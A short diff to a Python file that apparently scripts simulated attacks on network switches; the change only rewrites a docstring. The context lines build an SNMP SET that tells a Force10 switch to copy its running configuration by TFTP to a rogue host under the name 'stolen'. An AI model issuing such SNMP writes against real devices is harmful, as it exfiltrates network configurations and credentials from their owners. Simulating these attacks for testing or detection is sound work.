@@ -112,7 +112,7 @@ def bw03_more_brands(wire: Wire) -> None:
     ),
 )
 def bw03_more_brands_send(wire: Wire) -> None:
-    """A Force10 and two HPE switches are told to send their configurations, one column by column; a third to serve it."""
+    """A Force10 and two HPE switches are told to send their configurations, a third to serve its own by TFTP."""
     where = IPv4Address(ROGUE)
     f10 = {2: RUNNING, 5: FILE, 6: TFTP, 7: "stolen", 8: where, 15: CREATE_AND_GO}
     snmp.Manager(wire, ATTACKER, "10.0.1.31").set(*snmp.row(FORCE10, 2**31 - 1, f10))
